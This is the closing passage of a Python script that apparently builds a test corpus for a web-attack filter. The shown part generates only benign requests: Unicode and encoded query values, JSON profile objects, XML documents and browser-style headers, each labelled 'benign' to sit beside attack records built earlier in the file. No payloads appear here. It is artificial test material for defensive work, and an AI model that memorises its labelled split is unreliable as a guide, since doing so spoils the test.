                       "Ann O'Neil", "https://example.com/cb?x=1", "100%", "a+b=c", "hello world", "#top",
                       "/me/orders?page=2", "café", "x/y", "2024-06-12 10:00"],
    "u_encoded": ["café", "Мария", "São Paulo", "中文", "Zürich", "naïve", "Ελλάδα", "日本語", "Ångström",
                  "señor", "Kraków", "東京", "crème brûlée", "€100", "Łódź"],
    "split_param": ["Ann O'Neil", "running shoes", "red blue", "new york", "summer sale", "data science",
                    "size 42", "coffee beans", "ann example", "gift card", "sale items", "dark mode",
                    "big data", "usb cable", "2024 06"],
}


NESTED_PROFILE: list[Any] = [
    {"user": {"id": 42, "profile": {"display_name": "Ann", "bio": "Coffee, cats and code."}}},
    {"data": {"type": "users", "attributes": {"profile": {"avatar_url": "https://cdn.example.com/a/42.png"}}}},
    {"account": {"profile": {"timezone": "Europe/Berlin", "locale": "de-DE"}}},
    {"profile": {"first_name": "Ann", "last_name": "O'Neil"}},
    {"member": {"settings": {"profile": {"visibility": "friends"}}}},
]


XML_ROOT_ATTR = [
    "<order id=\"1001\" currency=\"EUR\"><item sku=\"A-17\">2</item></order>",
    "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body>"
    "<GetStock xmlns=\"urn:example:inventory\"><Sku>A-17</Sku></GetStock></soap:Body></soap:Envelope>",
    "<rss version=\"2.0\"><channel><title>Shop news</title><link>https://shop.example.com/</link></channel></rss>",
    "<feed xmlns=\"http://www.w3.org/2005/Atom\"><title>Release notes</title><updated>2024-06-12T10:00:00Z</updated>"
    "</feed>",
    "<invoice number=\"INV-4471\" date=\"2024-06-12\"><customer>Ann O'Neil</customer><total>99.90</total></invoice>",
]


def _benign_u_encode(text: str) -> str:
    """What legacy JavaScript escape() makes of a text: %uXXXX above Latin-1, %XX for the rest."""
    out = []
    for c in text:
        if c.isascii() and (c.isalnum() or c in "@*_+-./"):
            out.append(c)
        elif ord(c) < 256:
            out.append(f"%{ord(c):02X}")
        else:
            out.append(f"%u{ord(c):04X}")
    return "".join(out)


def _benign(placement: str, v: str, i: int) -> dict[str, Any]:
    """A benign request in `placement`: most reuse the attack builder; the ones whose attack shape is not
    what ordinary traffic looks like (a name with a dummy value, escape() output) are built as clients do."""
    if placement == "query_name":
        return _get(_query(GET_PATHS[i % len(GET_PATHS)], [(v, ["2", "price", "email", "1"][i % 4]), ("q", "shoes")]))
    if placement == "form_name":
        value = ["Ann", "O'Neil", "ann@example.org", "+1 555 0100", "12 Main St."][i % 5]
        return _form_to(FORM_TARGETS[i % len(FORM_TARGETS)], [("csrf_token", "t0k3n"), (v, value)])
    if placement == "json_key":
        return _json_to(JSON_TARGETS[i % len(JSON_TARGETS)], {"email": "a@example.org", v: ["Ann", 1, True][i % 3]})
    if placement == "cookie_name":
        rec = _get(_query(GET_PATHS[i % len(GET_PATHS)], [("page", "1")]))
        value = BENIGN_VALUES["cookie_value"][(i + 3) % 15]
        return {**rec, "headers": _headers(Cookie=f"session=abc123; {v}={urllib.parse.quote(value, safe='')}")}
    if placement == "u_encoded":
        name = QUERY_NAMES[(i + 4) % len(QUERY_NAMES)]
        return _get(SEARCH_PATHS[(i + 4) % len(SEARCH_PATHS)] + f"?{name}={_benign_u_encode(v)}&page=1")
    if placement == "repeated_param":
        name = ["page", "color", "tag", "lang", "sort", "id", "size", "status"][i % 8]
        first = ["1", "red", "boots", "de", "name", "2", "m", "open"][i % 8]
        return _get(_query(SEARCH_PATHS[(i + 1) % len(SEARCH_PATHS)], [(name, first), (name, v)]))
    return PLACEMENTS[placement](v, i)


def benign() -> Iterator[dict[str, Any]]:
    n = 0
    for placement, values in BENIGN_VALUES.items():
        for i, v in enumerate(values):
            n += 1
            yield {**_benign(placement, v, i), "id": f"fifth-benign-{n:04d}", "category": "benign",
                   "sub": placement, "placement": placement}
    # ordinary documents with a nested "profile" object (the key first blocked in a deep document, above)
    for i, doc in enumerate(NESTED_PROFILE):
        n += 1
        yield {**_json_to(JSON_TARGETS[i % len(JSON_TARGETS)], doc), "id": f"fifth-benign-{n:04d}",
               "category": "benign", "sub": "nested_profile", "placement": "nested_profile"}
    # ordinary XML documents whose root element carries attributes or namespaces
    for i, doc in enumerate(XML_ROOT_ATTR):
        n += 1
        yield {**_xml(XML_TARGETS[i % len(XML_TARGETS)], doc), "id": f"fifth-benign-{n:04d}",
               "category": "benign", "sub": "xml_root_attr", "placement": "xml_root_attr"}
    # a few whole requests a browser or an app sends, carrying several of the places at once
    for i, (ua, ref) in enumerate(zip(BENIGN_VALUES["user_agent"], BENIGN_VALUES["referer"], strict=True)):
        n += 1
        cookie = (f"_ga=GA1.2.{1234567890 + i}.1718000000; locale=en-US; "
                  f"cookieconsent_status=dismiss; cart_id=c7f1e0a2-55b1-4d3e-9a77-{i:012d}")
        rec = _get(_query(GET_PATHS[i % len(GET_PATHS)], [("page", str(i + 1)), ("sort", "-created_at"),
                                                          ("filter[status]", "active"), ("tag", "a"), ("tag", "b")]))
        yield {**rec, "headers": {"User-Agent": ua, "Accept": "text/html,application/xhtml+xml", "Referer": ref,
                                  "Cookie": cookie, "Accept-Language": "en-US,en;q=0.9",
                                  "X-Forwarded-For": BENIGN_VALUES["x_forwarded_for"][i]},
               "id": f"fifth-benign-{n:04d}", "category": "benign", "sub": "browser", "placement": "browser"}


if __name__ == "__main__":
    print_records(attacks(), benign())
